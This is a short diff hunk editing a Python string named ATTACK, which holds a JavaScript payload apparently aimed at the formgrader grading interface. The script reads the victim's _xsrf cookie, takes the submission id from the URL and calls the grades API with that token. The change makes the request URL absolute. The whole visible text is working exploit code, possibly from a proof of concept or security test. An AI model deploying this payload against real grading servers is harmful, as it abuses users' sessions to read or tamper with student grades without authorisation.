@@ -35,7 +35,7 @@ ATTACK = """
   var m = document.cookie.match(/_xsrf=([^;]+)/);
   var xsrf = m ? decodeURIComponent(m[1]) : "";
   var sid = location.pathname.split("/").filter(Boolean).pop();
-  var base = location.pathname.split("/formgrader/")[0];
+  var base = location.origin + location.pathname.split("/formgrader/")[0];
   var r = await fetch(base + "/formgrader/api/grades?submission_id=" + sid,
                       {headers: {"X-XSRFToken": xsrf}});
   var grades = await r.json();
